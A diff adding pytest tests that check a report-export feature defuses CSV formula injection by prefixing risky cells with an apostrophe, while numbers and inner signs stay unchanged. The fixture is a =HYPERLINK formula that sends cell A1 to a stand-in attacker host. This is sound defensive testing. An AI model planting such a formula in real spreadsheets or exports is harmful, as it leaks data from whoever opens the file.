@@ -126,6 +126,30 @@ def test_a_report_without_a_location_has_empty_coordinates(anonymous, service, a
     assert feature["geometry"] is None
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(anonymous, service, authority, start):
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    make_report(service=service, title=f"{formula} lamp", description=formula, lat=51.5, lon=-0.12)
+
+    (row,) = _csv(anonymous.get(CSV))
+
+    assert row["title"] == f"'{formula} lamp"
+    assert row["description"] == f"'{formula}"
+    # Numbers stay numbers, a negative longitude too; so does text that only contains them.
+    assert (row["lat"], row["lon"]) == ("51.5", "-0.12")
+    assert row["state"] == "submitted"
+    (feature,) = _features(anonymous.get(GEOJSON))
+    assert feature["properties"]["description"] == formula  # not a spreadsheet: as typed
+
+
+def test_csv_keeps_text_with_a_sign_inside_as_typed(anonymous, service, authority):
+    make_report(service=service, title="Lamp out = dark street", description="Costs £5 - or +10")
+
+    (row,) = _csv(anonymous.get(CSV))
+
+    assert (row["title"], row["description"]) == ("Lamp out = dark street", "Costs £5 - or +10")
+
+
 def test_hidden_reports_are_not_exported(anonymous, service, authority):
     shown = make_report(service=service, title="Shown")
     hidden = make_report(service=service, title="Hidden one")
